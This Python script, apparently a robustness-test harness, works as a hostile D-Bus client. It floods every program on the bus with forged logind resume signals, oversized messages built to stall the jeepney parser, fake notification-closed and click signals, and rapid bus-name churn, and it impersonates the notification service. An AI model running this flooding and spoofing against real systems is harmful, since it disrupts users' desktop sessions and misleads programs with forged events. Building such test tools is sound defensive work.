"""A hostile program on a bus: ``python flood.py ADDRESS KIND`` sends messages until it is ended."""

import itertools
import sys
import time
from collections.abc import Callable
from typing import Any

from jeepney import DBusAddress, HeaderFields, Message, MessageType, new_method_return, new_signal
from jeepney.bus_messages import message_bus
from jeepney.io.blocking import DBusConnection, open_dbus_connection

LOGIND = DBusAddress("/org/freedesktop/login1", "org.freedesktop.login1", "org.freedesktop.login1.Manager")
NOTIFICATIONS = DBusAddress(
    "/org/freedesktop/Notifications", "org.freedesktop.Notifications", "org.freedesktop.Notifications"
)
PORTAL_NAME = "org.freedesktop.portal.Desktop"
LONG_BYTES = 31 << 20
"""A little less than the maximum length of a message on the system bus."""
BATCH = 200
"""How many short messages are sent at once."""
LOOKS_AGAIN_S = 1.0
"""How often to look for new programs on the bus, in seconds."""


def _others(connection: DBusConnection) -> list[str]:
    (names,) = connection.send_and_get_reply(message_bus.ListNames()).body
    return [name for name in names if name.startswith(":") and name != connection.unique_name]


def _raw(message: Message, to: str | None = None) -> bytes:
    if to is not None:
        message.header.fields[HeaderFields.destination] = to
    raw: bytes = message.serialise(serial=1)
    return raw


def _to_all(connection: DBusConnection, message: Message, times: int, pause_s: float = 0.0) -> None:
    """Send a signal to each program by name, again and again."""
    while True:
        batches = [_raw(message, name) * times for name in _others(connection)]
        ends = time.monotonic() + LOOKS_AGAIN_S
        while time.monotonic() < ends:
            for batch in batches:
                connection.sock.sendall(batch)
            time.sleep(pause_s)


def _resume() -> Message:
    return new_signal(LOGIND, "PrepareForSleep", "b", (False,))


def resume(connection: DBusConnection) -> None:
    """Send 20 false resume signals a second, as any user can on the system bus."""
    _to_all(connection, _resume(), 1, pause_s=0.05)


def short(connection: DBusConnection) -> None:
    """Send false resume signals as fast as possible."""
    _to_all(connection, _resume(), BATCH)


def long(connection: DBusConnection) -> None:
    """Send signals whose bodies are arrays of millions of booleans, which take jeepney a minute each."""
    message = new_signal(LOGIND, "PrepareForSleep", "ay", (bytes(LONG_BYTES),))
    while True:
        for name in _others(connection):
            connection.sock.sendall(_raw(message, name).replace(b"\x02ay\0", b"\x02ab\0", 1))


def closed(connection: DBusConnection) -> None:
    """Send false reports of closed notifications: broadcast, and to each program by name."""
    message = new_signal(NOTIFICATIONS, "NotificationClosed", "uu", (1, 2))
    connection.sock.sendall(_raw(message) * BATCH)
    _to_all(connection, message, BATCH)


def names(connection: DBusConnection) -> None:
    """Acquire and release a bus name that programs watch, again and again."""
    raw = b"".join(call.serialise(serial=1) for call in (message_bus.RequestName(PORTAL_NAME), _release()))
    while True:
        connection.sock.sendall(raw * BATCH)
        try:
            while True:
                connection.receive(timeout=0)
        except TimeoutError:
            pass


def _release() -> Message:
    return message_bus.ReleaseName(PORTAL_NAME)


def clicks(connection: DBusConnection) -> None:
    """Act as the notification service, and report clicks on the first notification as fast as possible."""
    connection.send_and_get_reply(message_bus.RequestName(NOTIFICATIONS.bus_name))
    answers: dict[str, tuple[str, tuple[Any, ...]]] = {
        "GetServerInformation": ("ssss", ("hostile", "", "1", "1.2")),
        "GetCapabilities": ("as", (["actions"],)),
        "Notify": ("u", (1,)),
    }
    member = ""
    while member != "Notify":
        call = connection.receive()
        member = call.header.fields.get(HeaderFields.member, "")
        if call.header.message_type is MessageType.method_call and member in answers:
            connection.send(new_method_return(call, *answers[member]))
    raw = _raw(new_signal(NOTIFICATIONS, "ActionInvoked", "us", (1, "default"))) * BATCH
    for _ in itertools.count():
        connection.sock.sendall(raw)


KINDS: dict[str, Callable[[DBusConnection], None]] = {
    each.__name__: each for each in (resume, short, long, closed, names, clicks)
}


if __name__ == "__main__":
    KINDS[sys.argv[2]](open_dbus_connection(sys.argv[1]))
